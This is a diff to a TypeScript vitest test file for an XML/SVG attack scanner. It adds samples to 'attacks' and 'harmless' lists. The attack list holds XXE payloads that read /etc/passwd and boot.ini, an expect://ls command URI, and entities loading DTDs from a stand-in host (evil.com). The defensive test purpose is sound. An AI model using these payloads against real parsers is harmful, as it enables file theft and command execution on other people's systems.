@@ -2,6 +2,9 @@ import { describe, expect, it } from 'vitest'
 import { familyTotalOf, totalOf } from './scan-score.ts'
 
 const attacks: readonly string[] = [
+  "<?xml version='1.0'?>\n<!DOCTYPE a [\n<!ENTITY e SYSTEM 'file:///c:/boot.ini'>\n]>\n<a>&e;</a>",
+  '<svg><image xlink:href="file:///etc/passwd"/></svg>',
+  '<image xlink:href="expect://ls">',
   '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
   '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://x/a.dtd">%a;]>',
   '<!DOCTYPE foo SYSTEM "http://evil.com/a.dtd">',
@@ -11,6 +14,8 @@ const attacks: readonly string[] = [
 ]
 
 const harmless: readonly string[] = [
+  '<svg><use xlink:href="#icon"/></svg>',
+  '<a href="https://example.com/">x</a>',
   '<!DOCTYPE html><html><body>x</body></html>',
   '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
   '<?xml version="1.0" encoding="UTF-8"?><a><b>c</b></a>',
